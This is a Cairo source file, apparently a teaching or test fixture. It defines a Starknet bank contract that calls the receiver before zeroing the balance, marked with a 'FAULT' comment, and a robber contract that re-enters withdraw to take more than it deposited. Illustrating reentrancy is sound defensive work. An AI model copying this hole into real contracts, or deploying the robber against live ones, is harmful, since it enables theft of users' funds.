//! A bank that tells a receiver before it writes down that it has paid, and a robber that calls it again from there.

#[starknet::interface]
pub trait IBank<TState> {
    fn deposit(ref self: TState, amount: u128);
    fn withdraw(ref self: TState);
    fn paid_in(self: @TState) -> u128;
    fn paid_out(self: @TState) -> u128;
}

#[starknet::interface]
pub trait IReceiver<TState> {
    fn on_paid(ref self: TState, amount: u128);
}

#[starknet::interface]
pub trait IRobber<TState> {
    fn prepare(ref self: TState, times: u8);
    fn deposit(ref self: TState, amount: u128);
    fn withdraw(ref self: TState);
}

#[starknet::contract]
pub mod Bank {
    use starknet::storage::{
        Map, StoragePathEntry, StoragePointerReadAccess, StoragePointerWriteAccess,
    };
    use starknet::{ContractAddress, get_caller_address, get_tx_info};
    use super::{IReceiverDispatcher, IReceiverDispatcherTrait};

    #[storage]
    struct Storage {
        balances: Map<ContractAddress, u128>,
        paid_in: u128,
        paid_out: u128,
    }

    #[abi(embed_v0)]
    impl Bank of super::IBank<ContractState> {
        fn deposit(ref self: ContractState, amount: u128) {
            let balance = self.balances.entry(get_caller_address());
            balance.write(balance.read() + amount);
            self.paid_in.write(self.paid_in.read() + amount);
        }

        fn withdraw(ref self: ContractState) {
            let caller = get_caller_address();
            let balance = self.balances.entry(caller);
            let amount = balance.read();
            self.paid_out.write(self.paid_out.read() + amount);
            // Accounts are not told.
            if caller != get_tx_info().unbox().account_contract_address {
                IReceiverDispatcher { contract_address: caller }.on_paid(amount);
            }
            balance.write(0); // FAULT: after the call
        }

        fn paid_in(self: @ContractState) -> u128 {
            self.paid_in.read()
        }

        fn paid_out(self: @ContractState) -> u128 {
            self.paid_out.read()
        }
    }
}

#[starknet::contract]
pub mod Robber {
    use starknet::ContractAddress;
    use starknet::storage::{StoragePointerReadAccess, StoragePointerWriteAccess};
    use super::{IBankDispatcher, IBankDispatcherTrait};

    #[storage]
    struct Storage {
        bank: ContractAddress,
        times: u8,
    }

    #[constructor]
    fn constructor(ref self: ContractState, bank: ContractAddress) {
        self.bank.write(bank);
    }

    #[abi(embed_v0)]
    impl Robber of super::IRobber<ContractState> {
        fn prepare(ref self: ContractState, times: u8) {
            self.times.write(times % 4);
        }

        fn deposit(ref self: ContractState, amount: u128) {
            IBankDispatcher { contract_address: self.bank.read() }.deposit(amount);
        }

        fn withdraw(ref self: ContractState) {
            IBankDispatcher { contract_address: self.bank.read() }.withdraw();
        }
    }

    #[abi(embed_v0)]
    impl Receiver of super::IReceiver<ContractState> {
        fn on_paid(ref self: ContractState, amount: u128) {
            let times = self.times.read();
            if times != 0 {
                self.times.write(times - 1);
                IBankDispatcher { contract_address: self.bank.read() }.withdraw();
            }
        }
    }
}
